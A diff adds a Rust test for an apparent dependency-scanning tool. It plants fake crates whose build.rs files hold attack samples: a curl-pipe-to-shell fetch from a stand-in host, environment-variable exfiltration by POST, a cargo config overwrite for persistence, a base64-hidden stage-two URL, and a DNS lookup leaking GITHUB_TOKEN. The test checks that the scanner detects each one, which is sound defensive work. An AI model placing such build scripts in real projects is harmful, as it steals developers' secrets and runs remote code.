@@ -413,3 +413,95 @@ fn no_lock_file_is_an_error_and_nothing_is_written() {
     assert!(stderr(&o).contains("cargo generate-lockfile"), "{}", stderr(&o));
     assert!(!d.path().join("ws/Cargo.lock").exists());
 }
+
+/// Add a package to the fixture's registry and lock file.
+fn plant(d: &Path, name: &str, files: &[(&str, &str)]) {
+    let pkg = d.join("home").join(INDEX).join(format!("{name}-0.1.0"));
+    let manifest = format!("[package]\nname = \"{name}\"\nversion = \"0.1.0\"\n");
+    let mut all: Vec<(&str, &str)> = vec![("Cargo.toml", &manifest)];
+    all.extend_from_slice(files);
+    write_files(&pkg, &all);
+    let ws = d.join("ws");
+    let mut lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
+    lock.push_str(&format!(
+        "\n[[package]]\nname = \"{name}\"\nversion = \"0.1.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n"
+    ));
+    std::fs::write(ws.join("Cargo.lock"), lock).unwrap();
+}
+
+#[test]
+fn more_attack_shapes() {
+    let d = fixture();
+    // A shell pipeline that fetches and runs.
+    plant(
+        d.path(),
+        "pipe-sh",
+        &[(
+            "build.rs",
+            "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").args([\"-c\", \"curl -fsSL https://example.invalid/i.sh | sh\"]).status().ok();\n}\n",
+        )],
+    );
+    // The whole environment sent away.
+    plant(
+        d.path(),
+        "env-post",
+        &[(
+            "build.rs",
+            "fn main() {\n    let all: Vec<(String, String)> = std::env::vars().collect();\n    let _ = ureq::post(\"https://example.invalid/e\").send_json(&all);\n}\n",
+        )],
+    );
+    // A write into cargo's own configuration: persistence across every build.
+    plant(
+        d.path(),
+        "cfg-writer",
+        &[(
+            "build.rs",
+            "use std::path::PathBuf;\nfn main() {\n    let home = PathBuf::from(std::env::var(\"CARGO_HOME\").unwrap());\n    std::fs::write(home.join(\"config.toml\"), \"[build]\\nrustc-wrapper = \\\"/tmp/w\\\"\\n\").ok();\n    std::fs::write(\"../../.cargo/config.toml\", \"\").ok();\n}\n",
+        )],
+    );
+    // A payload URL kept in a text file, base64-encoded, read with include_str!.
+    plant(
+        d.path(),
+        "stash",
+        &[
+            ("payload.txt", "aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvc3RhZ2Uy"),
+            (
+                "build.rs",
+                "fn main() {\n    let raw = include_str!(\"payload.txt\");\n    let url = String::from_utf8(base64::decode(raw.trim()).unwrap()).unwrap();\n    let _ = ureq::get(&url).call();\n}\n",
+            ),
+        ],
+    );
+    // Exfiltration through a DNS lookup, the secret in the host name.
+    plant(
+        d.path(),
+        "dns-leak",
+        &[(
+            "build.rs",
+            "use std::net::ToSocketAddrs;\nfn main() {\n    let t = std::env::var(\"GITHUB_TOKEN\").unwrap_or_default();\n    let _ = format!(\"{t}.example.invalid:53\").to_socket_addrs();\n}\n",
+        )],
+    );
+    let j = json(&deps(d.path(), &["-f", "json"]));
+    assert!(
+        has(&of(&j, "pipe-sh"), "deps-build-download-exec", "critical", "curl -fsSL https://example.invalid/i.sh | sh"),
+        "{:#?}",
+        of(&j, "pipe-sh")
+    );
+    assert!(
+        has(&of(&j, "env-post"), "deps-build-secret-read", "critical", "every environment variable"),
+        "{:#?}",
+        of(&j, "env-post")
+    );
+    let cw = of(&j, "cfg-writer");
+    assert!(has(&cw, "deps-build-fs-write", "high", "the home directory"), "{cw:#?}");
+    assert!(has(&cw, "deps-build-fs-write", "high", ".cargo/config.toml"), "{cw:#?}");
+    assert!(
+        has(&of(&j, "stash"), "deps-obfuscated-payload", "critical", "https://example.invalid/stage2"),
+        "{:#?}",
+        of(&j, "stash")
+    );
+    assert!(
+        has(&of(&j, "dns-leak"), "deps-build-secret-read", "critical", "GITHUB_TOKEN"),
+        "{:#?}",
+        of(&j, "dns-leak")
+    );
+}
